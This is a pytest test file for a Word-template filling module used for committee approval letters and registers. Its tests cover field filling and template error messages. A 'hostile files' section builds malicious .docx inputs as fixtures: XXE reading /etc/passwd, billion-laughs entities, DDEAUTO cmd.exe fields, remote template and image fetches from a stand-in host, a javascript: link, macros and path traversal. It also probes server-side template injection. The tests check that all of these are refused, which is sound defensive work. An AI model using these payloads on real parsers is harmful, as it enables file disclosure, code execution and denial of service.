"""A committee's own template: names become words and nothing else happens, and what is wrong is named where it stands."""

from __future__ import annotations

import io
import json
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import pytest
from docx import Document

from graph.schema.printed import fields_of
from papers import editing, filling
from papers.catalogue import Print
from papers.fields import Field, Form, named, sample, values, words_of

REPLY, REGISTER = fields_of(Print.APPROVAL_REPLY), fields_of(Print.ACTIVIST_REGISTER)
SAMPLES = Path(__file__).parent / "samples"
EDITED = [kind for kind in Print if kind.editable]


def saved(document: Any) -> bytes:
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def a_template(*lines: str, rows: tuple[tuple[str, ...], ...] = ()) -> bytes:
    document = Document()
    for line in lines:
        document.add_paragraph(line)
    if rows:
        table = document.add_table(len(rows), len(rows[0]))
        for cells, texts in zip(table.rows, rows, strict=True):
            for cell, text in zip(cells.cells, texts, strict=True):
                cell.text = text
    return saved(document)


def filled(data: bytes, fields: tuple[Field, ...] = REGISTER, **said: Any) -> Any:
    return Document(io.BytesIO(filling.fill(data, fields, {**sample(fields), **said})))


def lines(document: Any) -> list[str]:
    return [paragraph.text for paragraph in document.paragraphs]


def cells(document: Any) -> list[list[str]]:
    return [[cell.text for cell in row.cells] for table in document.tables for row in table.rows]


def wrong(data: bytes, fields: tuple[Field, ...] = REGISTER) -> list[str]:
    return [one.zh for one in filling.look(data, fields) if one.wrong]


# ── filling ─────────────────────────────────────────────────────────────────────────────────────────────────────────


def test_a_real_reply_with_a_table_says_what_the_data_say() -> None:
    """Golden: a committee's letter, laid out by hand, with what the vote was as a table."""
    found = json.loads((SAMPLES / "approval_reply.admission_approval.json").read_text())
    said = {**values(REPLY, found["node"], words_of(found)), **editing.composed(Print.APPROVAL_REPLY, found)}
    said |= {
        "documentNumber": "示范党发〔2026〕7号",
        "documentDate": "2026年12月1日",
        "verificationAddress": "",
        "verificationCode": "",
    }
    document = Document()
    for line in (
        "{{审批党委.名称}}", "{{文件编号}}", "关于{{发展人员.姓名}}同志的批复", "{{所在支部.名称}}：", "{{文件正文}}",
        "{{如有 审批决定.党委会日期}}党委会于{{党委会日期}}召开。{{如有完}}", "{{如有 每月党费金额}}党费{{每月党费金额}}元。{{如有完}}", "{{文件日期}}",
    ):  # fmt: skip
        document.add_paragraph(line)
    table = document.add_table(2, 2)
    for cell, text in zip(
        (c for row in table.rows for c in row.cells), ("赞成", "不赞成", "{{赞成}}", "{{不赞成}}"), strict=True
    ):
        cell.text = text
    data = saved(document)
    assert [one.zh for one in filling.look(data, REPLY)] == []
    made = Document(io.BytesIO(filling.fill(data, REPLY, said)))
    node = found["node"]
    vote = node["decision"]["vote"]
    text = lines(made)
    assert text[0] == node["addressedTo"]["name"]
    assert text[1:4] == [
        "示范党发〔2026〕7号", f"关于{node['candidate']['name']}同志的批复", f"{node['candidate']['branch']['name']}：",
    ]  # fmt: skip
    assert text[4].startswith("你支部")
    assert text[-1] == "2026年12月1日"
    assert "党委会于" in text[-3]
    assert cells(made) == [["赞成", "不赞成"], [str(vote["approve"]), str(vote["oppose"])]]


def test_what_stands_in_a_row_is_repeated_for_each() -> None:
    data = a_template(
        "{{姓名}}", rows=(("时间", "谈话人"), ("{{循环 谈话记录}}{{业务日期}}", "{{谈话人}} 对 {{姓名}}{{循环完}}"))
    )
    assert wrong(data) == []
    made = filled(data, name="王芳", talks=[{"on": "甲日", "talkedBy": "李"}, {"on": "乙日", "talkedBy": "张"}])
    assert cells(made) == [["时间", "谈话人"], ["甲日", "李 对 王芳"], ["乙日", "张 对 王芳"]]
    assert cells(filled(data, talks=[])) == [["时间", "谈话人"]]


def test_so_are_paragraphs_and_words_of_a_line_and_conditions() -> None:
    data = a_template(
        "{{for trainings}}", "{{organizer}}{{if series}}（{{series}}）{{endif}}{{unless series}}（无）{{endif}}", "{{endfor}}",
        "谈话：{{循环 谈话记录}}{{谈话人}}、{{循环完}}",
    )  # fmt: skip
    assert wrong(data) == []
    made = filled(
        data,
        trainings=[{"organizer": "党校", "series": "三"}, {"organizer": "组织部", "series": ""}],
        talks=[{"talkedBy": "李"}],
    )
    assert lines(made) == ["党校（三）", "组织部（无）", "谈话：李、"]


def test_a_field_is_found_however_word_cut_it_up_and_however_it_is_typed() -> None:
    document = Document()
    paragraph = document.add_paragraph()
    for piece in ("姓名：{", "{ 姓", "名 }", "}，性别｛｛性别｝｝，{{Name}}"):
        paragraph.add_run(piece)
    paragraph.runs[1].bold = True
    assert wrong(saved(document)) == []
    assert lines(filled(saved(document), name="王芳", sex="女")) == ["姓名：王芳，性别女，王芳"]


def test_words_of_the_data_are_words() -> None:
    """Neither markup nor fields; a line break is one; what XML has no place for is left out."""
    made = filled(
        a_template("{{姓名}}|{{性别}}"), name="<w:br/>&{{性别}}{{循环 谈话记录}}\x00\ud800", sex="一\n二\r\n三"
    )
    assert lines(made) == ["<w:br/>&{{性别}}{{循环 谈话记录}}|一\n二\n三"]


def test_the_text_of_the_print_takes_the_look_of_its_place() -> None:
    document = Document()
    paragraph = document.add_paragraph()
    paragraph.add_run("{{文件正文}}").font.name = "楷体"
    paragraph.paragraph_format.first_line_indent = 400_000
    text = [
        {"lines": ["一"]},
        {"rows": [[{"lines": ["甲"], "span": 2}], [{"lines": ["乙"], "span": 1}] * 2]},
        {"lines": ["二", "三"]},
    ]
    made = filled(saved(document), documentText=text)
    assert lines(made) == ["一", "二\n三"]
    assert {(p.runs[0].font.name, p.paragraph_format.first_line_indent) for p in made.paragraphs} == {("楷体", 400_050)}
    assert cells(made) == [["甲", "甲"], ["乙", "乙"]]


def test_the_code_is_a_picture_and_nothing_where_there_is_none() -> None:
    png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    data = a_template("{{核验二维码}}")
    made = filled(data, verificationCode=png)
    assert len(made.inline_shapes) == 1
    assert len(filled(data, verificationCode="").inline_shapes) == 0


@pytest.mark.parametrize("kind", EDITED)
def test_what_one_begins_with_is_good_as_it_is(kind: Print) -> None:
    fields = fields_of(kind)
    data = editing.beginning(kind, fields)
    assert [one for one in filling.look(data, fields) if one.wrong] == []
    said = "\n".join(lines(filled(data, fields)) + [text for row in cells(filled(data, fields)) for text in row])
    assert "{{" not in said
    assert "〔文件标题〕" in said


@pytest.mark.parametrize("sample_", sorted(SAMPLES.glob("*.json")), ids=lambda path: path.stem)
def test_each_field_says_something_of_what_the_question_answers(sample_: Path) -> None:
    kind = next(one for one in Print if one.file == sample_.stem.partition(".")[0])
    if not kind.editable:
        return
    found = json.loads(sample_.read_text())

    def leaves(fields: tuple[Field, ...], said: Mapping[str, Any]) -> None:
        for field in fields:
            value = said[field.name]
            if field.form is Form.LIST:
                for row in value:
                    leaves(field.fields, row)
            elif field.form is Form.GROUP:
                assert value is None or leaves(field.fields, value) is None
            else:
                assert isinstance(value, str), field
                assert not (field.form is Form.WORD and value.isascii() and value), (
                    f"{field.enum} is not in the words: {value}"
                )

    own = tuple(field for field in fields_of(kind) if field.name in found["node"])
    assert own, kind
    leaves(own, values(own, found["node"], words_of(found)))


@pytest.mark.parametrize("kind", EDITED)
def test_each_field_has_names_of_its_own(kind: Print) -> None:
    def walk(fields: tuple[Field, ...]) -> None:
        for way in ("zh", "name"):
            names = [getattr(field, way) for field in fields]
            assert len(set(names)) == len(names), names
            assert all(filling._SAID.fullmatch(name) is None for name in names), names
        for field in fields:
            walk(field.fields)

    walk(fields_of(kind))
    assert all(one.zh and one.en for one in named(fields_of(kind)))


# ── looking ─────────────────────────────────────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ("{{姓明}}", "正文第1段：没有字段“姓明”，是否为“姓名”？"),
        ("{{ ''.__class__ }}", "正文第1段：没有字段“''.__class__”"),
        ("{{ cycler.__init__.__globals__ }}", "正文第1段：没有字段“cycler.__init__.__globals__”"),
        ("{{ name.__class__ }}", "正文第1段：没有字段“name.__class__”"),
        ("{{ name|upper }}", "正文第1段：没有字段“name|upper”"),
        ("{{ range(10**9) }}", "正文第1段：没有字段“range(10**9)”"),
        ("{{for x in range(9)}}{{endfor}}", "正文第1段：没有字段“x in range(9)”"),
        ("{% include 'x' %}{{姓名}}", "正文第1段：“{%”不成字段；字段写作{{姓名}}"),
        ("{{姓名}", "正文第1段：“{{”不成字段；字段写作{{姓名}}"),
        ("{{循环 培训}}{{组织单位}}", "正文第1段：{{循环 培训}}没有结束，缺少{{循环完}}"),
        ("{{姓名}}{{循环完}}", "正文第1段：{{循环完}}没有对应的开始"),
        ("{{循环 培训}}{{如有完}}{{循环完}}", "正文第1段：{{如有完}}没有对应的开始"),
        ("{{循环 所在支部}}{{循环完}}", "正文第1段：“所在支部”只有一项，不能循环；可用{{如有 所在支部}}"),
        ("{{培训}}", "正文第1段：“培训”有多项，须用{{循环 培训}}……{{循环完}}"),
        ("{{所在支部}}", "正文第1段：“所在支部”须写到具体内容，如所在支部.名称"),
        ("正文：{{文件正文}}", "正文第1段：{{文件正文}}须独占一段"),
        # No list of outside within another: what is made grows no faster than the data.
        ("{{循环 培训}}{{循环 培训}}{{循环完}}{{循环完}}", "正文第1段：没有字段“培训”"),
    ],
)  # fmt: skip
def test_what_is_wrong_is_named_where_it_stands(line: str, said: str) -> None:
    assert said in wrong(a_template(line))


def test_the_same_in_tables_and_headers_and_where_one_of_several_is_meant() -> None:
    document = Document()
    document.sections[0].header.paragraphs[0].text = "{{编号}}"
    document.add_table(2, 2).rows[1].cells[1].text = "{{姓}}"
    told = wrong(saved(document))
    assert any(one.startswith("正文表格1第2行第2格：没有字段“姓”") for one in told)
    assert any(one.startswith("页眉第1段：没有字段“编号”，是否为“文件编号”") for one in told)
    ambiguous = wrong(
        a_template("{{开始}}"),
        (Field("a", "甲", Form.GROUP, (Field("s", "开始"),)), Field("b", "乙", Form.GROUP, (Field("t", "开始"),))),
    )
    assert ambiguous == ["正文第1段：“开始”不明确，请写明：甲.开始、乙.开始", "模板中没有任何字段"]


def test_a_loop_that_reaches_over_places_is_told() -> None:
    over = a_template("{{循环 培训}}段", "{{循环完}}")
    assert any("跨越了不同的位置" in one for one in wrong(over))
    before = a_template(rows=(("{{姓名}}{{循环 培训}}", "{{循环完}}"),))
    assert any("还有字段" in one for one in wrong(before))


def test_number_and_date_are_missed_and_stand_in_no_ones_way() -> None:
    assert [(one.zh, one.wrong) for one in filling.look(a_template("{{姓名}}"), REGISTER)] == [
        ("模板中没有{{文件编号}}，打印件上将看不到", False),
        ("模板中没有{{文件日期}}，打印件上将看不到", False),
    ]


# ── hostile files ───────────────────────────────────────────────────────────────────────────────────────────────────

GOOD = a_template("{{姓名}}")
XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'


def linked(kind: str, target: str, *, far: bool = True) -> bytes:
    mode = ' TargetMode="External"' if far else ""
    told = (
        '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        f'{kind}" Target="{target}"{mode}/></Relationships>'
    )
    return _with(GOOD, "word/_rels/document.xml.rels", told)


def _with(data: bytes, name: str, told: str, end: str = "</Relationships>") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            part = old.read(entry.filename)
            new.writestr(entry.filename, part.replace(end.encode(), told.encode()) if entry.filename == name else part)
    return out.getvalue()


def _added(name: str, part: bytes) -> bytes:
    out = io.BytesIO(GOOD)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr(name, part)
    return out.getvalue()


def _document(change: Callable[[bytes], bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(GOOD)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            part = old.read(entry.filename)
            new.writestr(entry.filename, change(part) if entry.filename == "word/document.xml" else part)
    return out.getvalue()


def _field(instruction: str) -> bytes:
    run = f'<w:r><w:instrText xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">{instruction}</w:instrText></w:r></w:p>'
    return _document(lambda part: part.replace(b"</w:p>", run.encode(), 1))


HOSTILE = {
    "no archive": (b"PK\x03\x04nonsense", "损坏"),
    "an external picture": (linked("image", "http://192.0.2.1/x.png"), "引用外部内容"),
    "a remote template": (linked("attachedTemplate", "http://192.0.2.1/x.dotm"), "不允许"),
    "a script behind a link": (linked("hyperlink", "javascript:alert(1)"), "引用外部内容"),
    "a file behind a link": (linked("hyperlink", "file:///etc/passwd"), "引用外部内容"),
    "an object": (linked("oleObject", "embeddings/o.bin", far=False), "不允许"),
    "another document": (linked("aFChunk", "x.xml", far=False), "不允许"),
    "an archive within": (_added("word/media/inner.zip", GOOD), "不允许"),
    "an archive called a picture": (_added("word/media/inner.png", GOOD), "不允许"),
    "a macro": (_added("word/vbaProject.bin", b"x"), "不允许"),
    "a way out of the folder": (_added("word/../../x.xml", b"<a/>"), "不允许"),
    "an entity of a file": (_document(lambda part: XXE + part.partition(b"?>")[2].replace(b"{{", b"&e;{{")), "实体"),
    "laughs": (_document(lambda part: LAUGHS + part.partition(b"?>")[2].replace(b"{{", b"&b;{{")), "实体"),
    "an entity in another encoding": (
        _document(lambda part: (XXE.decode().replace('"1.0"', '"1.0" encoding="UTF-16"') + "<a/>").encode("utf-16")), "实体",
    ),
    "a program that is started": (_field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"), "DDE"),
    "a picture from elsewhere": (_field("INCLUDEPICTURE http://192.0.2.1/x"), "INCLUDE"),
    "a text from elsewhere": (_field("includetext x"), "INCLUDE"),
    "a program cut up by a comment": (_field("D<!-- -->DEAUTO c:\\\\x"), "DDE"),
    "a share behind a link": (_field('HYPERLINK "file://192.0.2.1/s"'), "超链接"),
    "a share behind a link, as Windows writes it": (_field('HYPERLINK "\\\\\\\\evil\\\\s"'), "超链接"),
    "a ribbon that fetches": (linked("extensibility", "customUI/customUI.xml", far=False), "不允许"),
    "an add-in": (linked("webextensiontaskpanes", "x.xml", far=False), "不允许"),
    "a drawn picture from elsewhere": (
        _document(
            lambda part: part.replace(
                b"</w:p>",
                b'<w:r><w:pict><v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="http://192.0.2.1/x"/></w:pict></w:r></w:p>',
                1,
            )
        ),
        "不允许",
    ),
    "the other spelling of the format": (
        _document(
            lambda part: part.replace(
                b"http://schemas.openxmlformats.org/wordprocessingml/2006/main", b"http://purl.oclc.org/ooxml/wordprocessingml/main"
            )
        ),
        "Strict",
    ),
    "too deep": (_document(lambda part: part.replace(b"<w:p>", b"<w:p>" + b"<w:a>" * 400 + b"</w:a>" * 400, 1)), "损坏"),
    "too large": (_added("word/media/x.xml", b"<a>" + b" " * 21_000_000 + b"</a>"), "过大"),
    "twice the same part": (_added("word/Document.xml", b"<a/>"), "损坏"),
}  # fmt: skip


@pytest.mark.parametrize("what", HOSTILE)
def test_hostile_files_are_no_templates(what: str) -> None:
    data, said = HOSTILE[what]
    for use in (lambda: filling.look(data, REGISTER), lambda: filling.fill(data, REGISTER, sample(REGISTER))):
        with pytest.raises(filling.Refusal) as refused:
            use()
        assert said in refused.value.zh


def test_a_link_to_a_page_is_none_of_them() -> None:
    for field in ('HYPERLINK "https://example.org/"', 'HYPERLINK \\l "_Toc1"', "PAGE"):
        assert wrong(_field(field)) == []
    assert wrong(linked("hyperlink", "https://example.org/")) == []


def test_what_is_made_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
    """A list is as long as the data; how often it is written is not up to the template."""
    monkeypatch.setattr(filling, "_MADE", 100_000)
    data = a_template(*["{{循环 谈话记录}}" + "{{谈话人}}" * 40 + "{{循环完}}"] * 60)
    with pytest.raises(filling.Refusal, match="too large"):
        filled(data, talks=[{"talkedBy": "李"}] * 1_000)
    deep = a_template("{{如有 姓名}}" * 20 + "{{如有完}}" * 20)
    with pytest.raises(filling.Refusal, match="12 sections"):
        filling.look(deep, REGISTER)
    many = a_template("{{姓名}}" * 4_000)
    with pytest.raises(filling.Refusal, match="3000 fields"):
        filling.look(many, REGISTER)


def test_marks_of_ours_in_a_file_are_nothing() -> None:
    forged = _document(
        lambda part: part.replace(b"<w:r>", b'<w:r xmlns:j="urn:jishi:template" j:verb="field" j:name="evil">', 1)
    )
    assert wrong(forged) == []
    assert lines(filled(forged, name="王芳")) == ["王芳"]
